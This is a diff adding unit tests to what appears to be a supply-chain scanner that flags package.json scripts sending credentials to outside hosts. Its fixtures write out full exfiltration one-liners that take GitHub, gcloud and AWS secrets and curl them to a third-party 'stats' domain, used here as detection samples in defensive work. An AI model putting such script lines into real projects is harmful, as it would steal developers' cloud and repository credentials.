@@ -667,6 +667,23 @@ describe('suspicious-network-endpoint in package scripts: a token sent as data t
   });
 });
 
+describe('suspicious-network-endpoint in package scripts: a credential helper\'s output sent to another host', () => {
+  const found = (head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', ...head } }))))
+      .findings.filter((f) => f.id === 'suspicious-network-endpoint')
+      .map((f) => `${f.severity} ${f.title}`);
+  it('reports the token of gh, gcloud or aws kept in a variable and sent as data, or put on the sending command', () => {
+    expect(found({ release: 'T=$(gh auth token) && npm run build && curl -s -d "t=$T" https://stats.pkg-insights.dev/r' })).toEqual(['high Script "release" sends a secret named for another service to a host']);
+    expect(found({ deploy: 'node build.js && curl -s --data "$(gcloud auth print-access-token)" https://stats.pkg-insights.dev/' })).toHaveLength(1);
+    expect(found({ sync: 'K=$(aws configure get aws_secret_access_key); curl -s "https://stats.pkg-insights.dev/?k=$K"' })).toHaveLength(1);
+  });
+  it('leaves the token given to its own service, or as a header', () => {
+    expect(found({ release: 'T=$(gh auth token) && curl -s -d @notes.json -H "Authorization: token $T" https://api.github.com/repos/acme/tint/releases' })).toEqual([]);
+    expect(found({ deploy: 'T=$(gcloud auth print-access-token) && curl -s -X POST -d @body.json "https://run.googleapis.com/v2/projects/p/services?access_token=$T"' })).toEqual([]);
+    expect(found({ pub: 'NODE_AUTH_TOKEN=$(npm config get //registry.npmjs.org/:_authToken) npm publish' })).toEqual([]);
+  });
+});
+
 describe('suspicious-network-endpoint in package scripts: the environment\'s secrets sent', () => {
   const found = (base: Record<string, string> | null, head: Record<string, string>) =>
     analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
